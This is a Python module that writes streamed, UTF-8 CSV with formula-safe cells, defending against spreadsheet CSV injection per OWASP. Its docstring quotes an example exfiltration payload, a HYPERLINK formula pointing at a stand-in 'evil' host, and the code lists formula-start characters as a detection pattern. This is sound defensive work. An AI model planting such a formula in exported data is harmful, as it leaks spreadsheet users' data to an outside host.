"""CSV for spreadsheets that does not run what reviewers typed: formula-safe cells, UTF-8 with a BOM, streamed.

A spreadsheet evaluates a text cell that starts with `=`, `+`, `-` or `@` (and a leading tab or carriage return
hides such a start) as a formula: `=HYPERLINK("http://evil/?"&A1, "Click")` sends data away, `@SUM(1)` runs.
As OWASP recommends ("CSV Injection"), such a text cell gets a leading `'`, which spreadsheets show as text
and do not store. The full-width forms (＝ ＋ － ＠), which some spreadsheets take as the ASCII ones, and text
whose first visible character is one of these, are neutralised the same way.

Numbers are written as numbers, unprefixed: an `int`, `float` or `Decimal` comes out as digits, a sign, a
point and an exponent only (`-1.5`), which a spreadsheet reads as a number and never as a formula, so negative
effect estimates stay numeric. A text that merely looks like a number (`"-1.5"` typed into a text field) is
still text and is prefixed: only values the caller passes as numbers are trusted.

Pure: no Django import, so any export can stream through `csv_lines`."""

import csv
import math
from collections.abc import Iterable, Iterator
from decimal import Decimal
from typing import Any

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r", "\uff1d", "\uff0b", "\uff0d", "\uff20")
BOM = "\ufeff"

Cell = str | int | float | Decimal


def safe_cell(value: Any) -> Cell:
    """The value as a CSV cell: numbers as they are, `None` as empty, booleans as `true`/`false`, anything else
    as text, prefixed with `'` when a spreadsheet would take it for a formula."""
    if value is None:
        return ""
    if isinstance(value, bool):
        return "true" if value else "false"
    if isinstance(value, int):
        return value
    if isinstance(value, Decimal) and value.is_finite():
        return value
    if isinstance(value, float) and math.isfinite(value):
        return value
    text = str(value)
    if text.startswith(FORMULA_STARTS) or text.lstrip().startswith(FORMULA_STARTS):
        return "'" + text
    return text


class _Line:
    """A file-like object that hands back what the csv writer writes (one line at a time)."""

    def write(self, value: str) -> str:
        return value


def csv_lines(rows: Iterable[Iterable[Any]]) -> Iterator[str]:
    """The rows as CSV text, line by line, each cell through `safe_cell`; the first line starts with a BOM so
    that spreadsheets read the file as UTF-8."""
    writer = csv.writer(_Line())
    first = True
    for row in rows:
        line: str = writer.writerow([safe_cell(cell) for cell in row])  # type: ignore[func-returns-value]
        yield BOM + line if first else line
        first = False
    if first:
        yield BOM
